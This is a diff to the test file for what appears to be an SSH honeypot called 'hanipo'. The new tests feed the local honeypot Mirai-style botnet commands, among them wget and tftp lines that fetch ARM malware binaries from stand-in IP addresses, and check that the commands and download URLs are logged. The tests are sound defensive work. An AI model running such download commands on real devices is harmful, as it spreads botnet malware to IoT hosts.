@@ -3,12 +3,14 @@ shell), Debian's hydra (every pair recorded), nmap -sV (names OpenSSH), OpenSSH'
 checked against a Python reading of the stored KEXINIT; host keys per install; caps."""
 import hashlib
 import os
+import shutil
 import socket
 import stat
 import struct
 import subprocess
 import sys
 import time
+from pathlib import Path
 
 import pytest
 
@@ -29,9 +31,28 @@ def ssh_config(h, extra=""):
         f"listen = 127.0.0.1:{h.port}\n" + extra)
 
 
-def start_ssh(make_hanipo, extra="", *overrides):
+KEYS = {}
+
+
+@pytest.fixture(scope="module", autouse=True)
+def shared_host_keys(tmp_path_factory):
+    """Host keys made once by the binary (hanipo check) and copied into most installs: making
+    an RSA key per test is slow. test_host_keys_per_install makes its own."""
+    d = tmp_path_factory.mktemp("sshkeys")
+    (d / "c.conf").write_text(f"[store]\npath = {d}/s/x.db\n[ssh]\nlisten = 127.0.0.1:1\n")
+    subprocess.run([os.environ.get("HANIPO_BIN", str(Path(__file__).resolve().parents[2] /
+                    "build" / "hanipo")), "check", "-c", str(d / "c.conf")], check=True,
+                   capture_output=True, timeout=scaled(60))
+    KEYS["dir"] = d / "s" / "ssh"
+    yield
+    KEYS.clear()
+
+
+def start_ssh(make_hanipo, extra="", *overrides, fresh_keys=False):
     h = make_hanipo(*overrides, start=False)
     h.config.write_text(ssh_config(h, extra))
+    if not fresh_keys and "host_key_dir" not in extra:
+        shutil.copytree(KEYS["dir"], h.store.parent / "ssh")
     return h.start()
 
 
@@ -189,8 +210,8 @@ def server_key(h):
 
 
 def test_host_keys_per_install(make_hanipo):
-    a = start_ssh(make_hanipo)
-    b = start_ssh(make_hanipo)
+    a = start_ssh(make_hanipo, fresh_keys=True)
+    b = start_ssh(make_hanipo, fresh_keys=True)
     ka, kb = server_key(a), server_key(b)
     assert ka[0] == kb[0] and ka[1] != kb[1]
     for h in (a, b):
@@ -252,10 +273,12 @@ def test_max_auth_tries_closes(make_hanipo):
         except (paramiko.SSHException, EOFError, OSError):
             results.append("closed")
             break
+    active = t.is_active()
     t.close()
-    assert results[:3] == [False, False, False] and results[3] == "closed", results
+    # Past the third refusal the server hangs up (paramiko may report the next try as refused).
+    assert results[:3] == [False, False, False] and not active, results
     rows = wait_event(h, "login", count=3)
-    assert len(rows) == 3
+    assert len(h.events("login")) == 3
     assert wait_event(h, "close", lambda r: r["fields"]["reason"] == "max_auth_tries")
 
 
@@ -286,3 +309,109 @@ def test_reply_waits_for_store(make_hanipo):
     h.stderr.close()
     t.close()
     assert logins(h, password="before-kill")
+
+
+def client(h, user="root", password="x"):
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    c.connect("127.0.0.1", h.port, username=user, password=password, look_for_keys=False,
+              allow_agent=False, timeout=scaled(10), banner_timeout=scaled(10),
+              auth_timeout=scaled(10))
+    return c
+
+
+def recv_until(ch, marker, timeout=10.0):
+    buf = b""
+    deadline = time.monotonic() + scaled(timeout)
+    while marker not in buf:
+        assert time.monotonic() < deadline, f"no {marker!r} in {buf!r}"
+        if ch.recv_ready():
+            buf += ch.recv(65536)
+        elif ch.closed or ch.exit_status_ready():
+            buf += ch.recv(65536) if ch.recv_ready() else b""
+            if marker not in buf:
+                raise AssertionError(f"channel closed without {marker!r}: {buf!r}")
+        else:
+            time.sleep(0.02)
+    return buf
+
+
+def test_exec_through_the_shell(make_hanipo):
+    h = start_ssh(make_hanipo, "accept = any\n[device]\nhostname = cam-01\n")
+    c = client(h)
+    _, out, _ = c.exec_command("uname -n; busybox MIRAI; wget http://198.51.100.7/bins/x.arm7",
+                               timeout=scaled(10))
+    text = out.read()
+    status = out.channel.recv_exit_status()
+    c.close()
+    assert text.startswith(b"cam-01\nMIRAI: applet not found\n"), text
+    assert b"\r\n" not in text                      # no terminal, no CR
+    assert status != 0
+    cmd = wait_event(h, "command")[0]
+    assert cmd["fields"]["command"] == "uname -n; busybox MIRAI; wget http://198.51.100.7/bins/x.arm7"
+    assert cmd["fields"]["mode"] == "exec" and cmd["fields"]["user"] == "root"
+    url = wait_event(h, "download_url")[0]
+    assert url["fields"]["url"] == "http://198.51.100.7/bins/x.arm7"
+    login = wait_event(h, "login")[0]
+    assert login["seq"] < cmd["seq"] < url["seq"]
+
+
+def test_interactive_shell(make_hanipo):
+    h = start_ssh(make_hanipo, "accept = any\n")
+    c = client(h, user="admin", password="admin")
+    ch = c.invoke_shell()
+    assert recv_until(ch, b"$ ").startswith(b"admin@router:")
+    ch.send(b"cd /tmp; echo -e '\\x6b\\x61\\x6d\\x69'\r")
+    out = recv_until(ch, b"/tmp$ ")
+    assert b"\r\nkami\r\n" in out, out
+    ch.send(b"ecjo\x7f\x7fho hi\r")             # erased characters never reach the shell
+    out = recv_until(ch, b"/tmp$ ")
+    assert b"\r\nhi\r\n" in out, out
+    ch.send(b"exit 3\r")
+    assert ch.recv_exit_status() == 3
+    c.close()
+    cmds = [r["fields"]["command"] for r in wait_event(h, "command", count=3)]
+    assert cmds == ["cd /tmp; echo -e '\\x6b\\x61\\x6d\\x69'", "echo hi", "exit 3"]
+
+
+def test_shell_without_pty_like_a_bot(make_hanipo):
+    h = start_ssh(make_hanipo, "accept = any\n")
+    c = client(h)
+    ch = c.get_transport().open_session()
+    ch.invoke_shell()
+    ch.sendall(b"cat /proc/mounts; /bin/busybox ECCHI\ntftp -g -l d -r mirai.arm 203.0.113.9\n")
+    ch.shutdown_write()
+    out = recv_until(ch, b"ECCHI: applet not found")
+    assert b"\r" not in out
+    ch.recv_exit_status()
+    c.close()
+    url = wait_event(h, "download_url")[0]["fields"]
+    assert "203.0.113.9" in url["url"] and "mirai.arm" in url["url"], url
+    assert len(wait_event(h, "command", count=2)) == 2
+
+
+def test_channel_data_cap(make_hanipo):
+    h = start_ssh(make_hanipo, "accept = any\nmax_channel_data = 4k\n")
+    c = client(h)
+    ch = c.get_transport().open_session()
+    ch.invoke_shell()
+    try:
+        for _ in range(20):
+            ch.sendall(b"echo " + b"a" * 1000 + b"\n")
+            time.sleep(0.01)
+    except (OSError, EOFError, paramiko.SSHException):
+        pass
+    wait_event(h, "close", lambda r: r["fields"]["reason"] == "max_channel_data")
+    c.close()
+
+
+def test_channels_refused_before_login_and_past_cap(make_hanipo):
+    h = start_ssh(make_hanipo, "accept = any\nmax_channels = 2\n")
+    c = client(h)
+    t = c.get_transport()
+    a, b = t.open_session(), t.open_session()
+    with pytest.raises(paramiko.ChannelException):
+        t.open_session(timeout=scaled(5))
+    a.close()
+    b.close()
+    c.close()
